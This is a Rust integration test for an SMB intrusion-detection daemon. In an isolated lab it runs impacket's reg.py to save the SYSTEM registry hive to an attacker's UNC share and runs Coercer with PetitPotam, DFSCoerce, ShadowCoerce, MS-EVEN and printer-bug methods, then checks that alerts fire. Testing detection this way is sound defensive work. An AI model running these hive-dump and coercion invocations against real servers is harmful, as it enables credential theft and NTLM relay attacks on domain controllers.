//! Coercion and registry dumping on the wire in the namespace lab: real
//! attacker tools through the gateway where smbwatch has XDP attached,
//! against the lab's Samba; the daemon's JSON alerts say what they did.
//!
//! - `smb_registry_dump`: impacket 0.13's own `reg.py save` (the hive save
//!   secretsdump does: OpenLocalMachine, BaseRegOpenKey, BaseRegSaveKey),
//!   answered by Samba's own winreg. `secretsdump.py` itself cannot get
//!   there against Samba: it first reads the boot key from the class
//!   names of `HKLM\SYSTEM\CurrentControlSet\Control\Lsa\{JD,Skew1,GBG,Data}`,
//!   keys Samba's registry does not have; created (`net registry
//!   createkey`), Samba's winreg still refuses impacket's
//!   BaseRegQueryInfoKey with `rpc_x_bad_stub_data` (tried 2026-12-06,
//!   Samba 4.17), and secretsdump stops before its BaseRegSaveKey.
//! - `smb_coercion`: Coercer 2.4.3 from PyPI (`cargo xtask setup` installs
//!   it in its own venv, with impacket 0.10 pinned) in `coerce` mode:
//!   PetitPotam's EfsRpcOpenFileRaw through `\efsrpc` and `\lsarpc`,
//!   DFSCoerce's NetrDfsAddStdRoot (`\netdfs`), ShadowCoerce's
//!   IsPathSupported (`\Fssagentrpc`), MS-EVEN's ElfrOpenBELW
//!   (`\eventlog`) and the printer bug's
//!   RpcOpenPrinter then RpcRemoteFindFirstPrinterChangeNotificationEx
//!   (`\spoolss`), against the server configured as a domain controller;
//!   then the printer bug again, no alert, under a daemon where it is not
//!   one. Samba answers none of these (its `\lsarpc` refuses MS-EFSR's
//!   BIND; its `\eventlog` is replaced here like `\lsarpc`): `np_responder.py` behind smbd's `np/<pipe>` sockets accepts
//!   the BINDs (NTLMSSP at PKT_PRIVACY, as Coercer binds) and faults every
//!   call but RpcOpenPrinter, whose sealed handle lets the printer bug's
//!   notification request follow; each call crosses the wire and nothing
//!   runs.

use std::{path::Path, time::Duration};

use integration_tests::{
    daemon::{json_lines, Daemon},
    netns::{Lab, ATTACKER_V4},
    require_root,
    samba::Smbd,
    Scratch,
};
use serde_json::Value;

/// The account the tools log on with (Samba maps it to root).
const USER: &str = "labadmin";
const PASSWORD: &str = "Lab-Passw0rd";

/// Where `cargo xtask setup` installs impacket and Coercer
/// (xtask/src/setup.rs, `IMPACKET_VENV`, `COERCER_VENV`).
const IMPACKET_VENV: &str = "/var/cache/smbwatch-test/impacket-0.13";
const COERCER_VENV: &str = "/var/cache/smbwatch-test/coercer-2.4.3";

/// Seconds a tool may run: a hanging one is killed so it cannot hang the
/// test.
const CLIENT_TIMEOUT: &str = "90";

/// The pipes Coercer is pointed at and the methods it calls on them: one
/// of each family.
const COERCER_PIPES: &[&str] = &[
    "efsrpc",
    "lsarpc",
    "netdfs",
    "Fssagentrpc",
    "spoolss",
    "eventlog",
];
const COERCER_METHODS: &[&str] = &[
    "EfsRpcOpenFileRaw",
    "NetrDfsAddStdRoot",
    "IsPathSupported",
    "RpcRemoteFindFirstPrinterChangeNotificationEx",
    "ElfrOpenBELW",
];

/// The pipes served by `np_responder.py` (its socket replaces
/// samba-dcerpcd's `np/lsarpc`, whose LSA server refuses MS-EFSR's BIND).
const SERVED: &[&str] = COERCER_PIPES;

fn action(v: &Value) -> &str {
    v["event"]["action"].as_str().unwrap_or("")
}

/// `v` is `want` or a list holding it (`rpc.operation` is a list).
fn is(v: &Value, want: &str) -> bool {
    v == want || v.as_array().is_some_and(|a| a.iter().any(|x| x == want))
}

/// An `rpc_call` event line of `op` on `iface` (through `pipe`, if given).
fn call(l: &[Value], iface: &str, op: &str, pipe: Option<&str>) -> bool {
    l.iter().any(|e| {
        e["event"]["dataset"] == "smbwatch.smb"
            && action(e) == "rpc_call"
            && is(&e["rpc"]["interface"]["name"], iface)
            && is(&e["rpc"]["operation"], op)
            && pipe.is_none_or(|p| {
                e["smb"]["named_pipe"]
                    .as_str()
                    .is_some_and(|n| n.eq_ignore_ascii_case(p))
            })
    })
}

/// Runs `program` with `args` on the attacker under a timeout; returns its
/// combined output (for failure messages). Not `exec`: the tools fail
/// against Samba after their calls, as expected.
fn run(lab: &Lab, program: &str, args: &[&str]) -> String {
    let out = lab
        .attacker
        .command("timeout")
        // Unbuffered: a killed tool's output is still all there.
        .env("PYTHONUNBUFFERED", "1")
        .args(["-s", "KILL", CLIENT_TIMEOUT, program])
        .args(args)
        .output()
        .expect(program);
    format!(
        "{program} ({}): {}{}",
        out.status,
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn coercion_and_hive_saves_are_seen_on_the_wire() {
    require_root();
    for (venv, tool) in [(IMPACKET_VENV, "reg.py"), (COERCER_VENV, "coercer")] {
        if !Path::new(venv).join("bin").join(tool).exists() {
            integration_tests::skip(&format!(
                "{tool} not installed in {venv} (cargo xtask setup installs it)"
            ));
            return;
        }
    }
    let lab = Lab::new(1).expect("lab");
    let server = lab.server_v4[0];
    lab.wait_reachable(server).unwrap();
    let target = server.to_string();
    let smbd = Smbd::start_admin(&lab.servers, &[server], USER, PASSWORD).expect("smbd");
    let dir = Scratch::new("lab-rpc");
    let json = dir.0.join("alerts.json");
    // Every call of a connection sampled; the server is a domain
    // controller here, so the printer bug against it is coercion.
    let conf = dir.0.join("smbwatch.toml");
    std::fs::write(
        &conf,
        format!(
            "[dataplane.sampling]\nsegments = 255\nbytes = 4096\n\
             [smb]\ndomain_controllers = [\"{target}/32\"]\n"
        ),
    )
    .unwrap();
    let daemon = Daemon::on_gateway(
        &lab,
        &json,
        &["--events", "--config", conf.to_str().unwrap()],
    )
    .expect("smbwatch on the gateway");
    let wait = |what: &str, out: &str, pred: &dyn Fn(&[Value]) -> bool| {
        let lines = daemon.lines_when(Duration::from_secs(20), pred);
        assert!(
            pred(&lines),
            "{what} not seen on the wire; {out}\n{:#?}",
            lines
                .iter()
                .filter(|l| l["event"]["dataset"] == "smbwatch.smb")
                .collect::<Vec<_>>()
        );
    };

    // reg.py save: the hive written to a share of the attacker's (no
    // such share: the server's answer does not matter, the call is the
    // act).
    let creds = format!("{USER}:{PASSWORD}@{target}");
    let unc = format!("\\\\{ATTACKER_V4}\\loot");
    let out = run(
        &lab,
        &format!("{IMPACKET_VENV}/bin/reg.py"),
        &[&creds, "save", "-keyName", "HKLM\\SYSTEM", "-o", &unc],
    );
    wait("reg.py's BaseRegSaveKey", &out, &|l| {
        call(l, "winreg", "BaseRegSaveKey", Some("winreg"))
    });

    // Coercer against the pipes served by the responder.
    let python = format!("{IMPACKET_VENV}/bin/python3");
    let _responders: Vec<_> = SERVED
        .iter()
        .map(|p| smbd.serve_pipe(&python, p).expect("a pipe responder"))
        .collect();
    // Coercer's `coerce` mode, limited to `pipes` and `methods`.
    let coercer = |pipes: &[&str], methods: &[&str]| {
        let mut args = vec![
            "coerce",
            "-u",
            USER,
            "-p",
            PASSWORD,
            "-t",
            &target,
            "-l",
            ATTACKER_V4,
            "--always-continue",
            "--auth-type",
            "smb",
            "--filter-transport-name",
            "msrpc",
        ];
        for p in pipes {
            args.extend(["--filter-pipe-name", *p]);
        }
        for m in methods {
            args.extend(["--filter-method-name", *m]);
        }
        run(&lab, &format!("{COERCER_VENV}/bin/coercer"), &args)
    };
    let out = coercer(COERCER_PIPES, COERCER_METHODS);
    let coerced = |l: &[Value]| {
        call(l, "efsrpc", "EfsRpcOpenFileRaw", Some("efsrpc"))
            && call(l, "efsrpc", "EfsRpcOpenFileRaw", Some("lsarpc"))
            && call(l, "netdfs", "NetrDfsAddStdRoot", None)
            && call(l, "fsrvp", "IsPathSupported", None)
            && call(l, "eventlog", "ElfrOpenBELW", None)
            && call(
                l,
                "spoolss",
                "RpcRemoteFindFirstPrinterChangeNotificationEx",
                None,
            )
    };
    wait("Coercer's calls", &out, &coerced);
    assert_eq!(daemon.stop().unwrap(), 0);

    let alerts = json_lines(&std::fs::read(&json).unwrap_or_default());
    let all = || format!("{alerts:#?}");
    let of = |kind: &str| -> Vec<&Value> {
        alerts
            .iter()
            .filter(|a| is(&a["rule"]["id"], kind))
            .collect()
    };
    let dumps = of("smb_registry_dump");
    assert_eq!(dumps.len(), 1, "{}", all());
    let coercions = of("smb_coercion");
    for a in dumps.iter().chain(&coercions) {
        assert!(is(&a["source"]["ip"], ATTACKER_V4), "{a:#}");
        assert!(is(&a["destination"]["ip"], &target), "{a:#}");
        assert!(is(&a["user"]["name"], USER), "{a:#}");
    }
    assert!(is(&dumps[0]["rpc"]["interface"]["name"], "winreg"));
    assert!(is(&dumps[0]["rpc"]["operation"], "BaseRegSaveKey"));
    assert!(
        is(&dumps[0]["smb"]["named_pipe"], "winreg"),
        "{:#}",
        dumps[0]
    );
    // One alert per (client, server, interface): PetitPotam through
    // \efsrpc and \lsarpc is one act.
    for (iface, op, family) in [
        ("efsrpc", "EfsRpcOpenFileRaw", "PetitPotam"),
        ("netdfs", "NetrDfsAddStdRoot", "DFSCoerce"),
        ("fsrvp", "IsPathSupported", "ShadowCoerce"),
        ("eventlog", "ElfrOpenBELW", "MS-EVEN"),
        (
            "spoolss",
            "RpcRemoteFindFirstPrinterChangeNotificationEx",
            "printer bug",
        ),
    ] {
        let n = coercions
            .iter()
            .filter(|a| {
                is(&a["rpc"]["interface"]["name"], iface)
                    && is(&a["rpc"]["operation"], op)
                    && a["message"].as_str().is_some_and(|m| m.contains(family))
            })
            .count();
        assert_eq!(
            n,
            1,
            "one smb_coercion for {iface} {op} ({family}): {}",
            all()
        );
    }
    assert_eq!(coercions.len(), 5, "{}", all());

    // The printer bug against a server not configured as a domain
    // controller is what print clients do: seen, no alert.
    let plain = dir.0.join("plain.toml");
    std::fs::write(
        &plain,
        "[dataplane.sampling]\nsegments = 255\nbytes = 4096\n",
    )
    .unwrap();
    let json = dir.0.join("alerts-plain.json");
    let daemon = Daemon::on_gateway(
        &lab,
        &json,
        &["--events", "--config", plain.to_str().unwrap()],
    )
    .expect("smbwatch on the gateway");
    let out = coercer(
        &["spoolss"],
        &["RpcRemoteFindFirstPrinterChangeNotificationEx"],
    );
    let notify = |l: &[Value]| {
        call(
            l,
            "spoolss",
            "RpcRemoteFindFirstPrinterChangeNotificationEx",
            Some("spoolss"),
        )
    };
    let lines = daemon.lines_when(Duration::from_secs(20), notify);
    assert!(notify(&lines), "the printer bug not seen again; {out}");
    assert_eq!(daemon.stop().unwrap(), 0);
    let alerts = json_lines(&std::fs::read(&json).unwrap_or_default());
    assert!(
        !alerts.iter().any(|a| is(&a["rule"]["id"], "smb_coercion")),
        "the printer bug against a non-DC raises nothing: {alerts:#?}"
    );
}
